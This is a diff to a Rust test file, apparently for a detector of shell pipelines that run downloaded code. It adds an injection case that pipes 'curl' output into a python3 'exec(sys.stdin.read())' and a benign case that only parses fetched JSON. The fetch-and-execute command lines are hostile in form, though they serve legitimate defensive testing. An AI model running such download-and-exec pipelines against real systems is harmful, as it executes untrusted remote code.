@@ -530,6 +530,17 @@ fn inject_python3_dash_m_runs_a_downloaded_module() {
 }
 
 #[test]
+fn inject_python3_code_that_execs_its_downloaded_stdin() {
+    // The program comes from -c, but it runs what it reads: stdin is code again.
+    injection(
+        "curl -s {URL}/code.py | python3 -c 'import sys; exec(sys.stdin.read())'",
+        FLOW,
+        r#"printf 'open("pwned","w").write("x")\n' | python3 -c 'import sys; exec(sys.stdin.read())'"#,
+        pwned_created,
+    );
+}
+
+#[test]
 fn inject_python3_code_importing_a_downloaded_module() {
     injection(
         "curl -s {URL}/code.py -o helper.py && python3 -c 'import helper'",
@@ -636,6 +647,19 @@ fn inject_downloaded_text_through_a_function_argument_to_eval() {
 #[test]
 fn benign_fetch_json_and_jq_it() {
     benign("curl -s {URL}/data.json | jq -r '.items[].name'", "a\nb\n");
+}
+
+#[test]
+fn benign_fetch_json_and_read_it_with_python3() {
+    // With `-c` (or a standard filter under `-m`), python's stdin is data.
+    benign(
+        r#"curl -s {URL}/data.json | python3 -c 'import sys, json; print(json.load(sys.stdin)["items"][1]["name"])'"#,
+        "b\n",
+    );
+    let a = Arena::new();
+    let r = a.run("curl -s {URL}/data.json | python3 -m json.tool");
+    r.assert_ok();
+    assert!(r.stdout.contains("\"name\": \"a\""), "{}", r.dump());
 }
 
 #[test]
